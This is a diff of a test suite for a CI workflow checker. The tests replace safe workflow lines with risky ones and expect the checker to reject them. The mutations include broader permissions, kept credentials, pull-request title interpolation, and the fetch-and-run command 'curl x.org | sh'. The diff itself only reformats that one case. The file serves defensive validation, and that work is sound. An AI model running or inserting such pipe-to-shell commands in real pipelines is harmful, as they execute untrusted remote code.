@@ -41,12 +41,7 @@ describe('workflows', () => {
     [checks, 'contents: read', 'contents: write', 'the workflow has more than permissions to read'],
     [checks, 'permissions:\n  contents: read\n', '', 'the workflow has more than permissions to read'],
     [checks, 'persist-credentials: false', 'persist-credentials: true', 'the clone keeps its credentials'],
-    [
-      checks,
-      'bash .ci/run',
-      'curl example.org | sh',
-      '"curl example.org | sh" is not a script in package.json',
-    ],
+    [checks, 'bash .ci/run', 'curl x.org | sh', '"curl x.org | sh" is not a script in package.json'],
     [checks, 'bash .ci/run', `npx -y ${rules.pnpm} no-such`, 'no-such" is not a script in package.json'],
     [checks, 'pnpm@10', 'pnpm@9', 'is not a script in package.json'],
     [checks, 'matrix.node }}\n', 'github.event.pull_request.title }}\n', 'is not a script in package.json'],
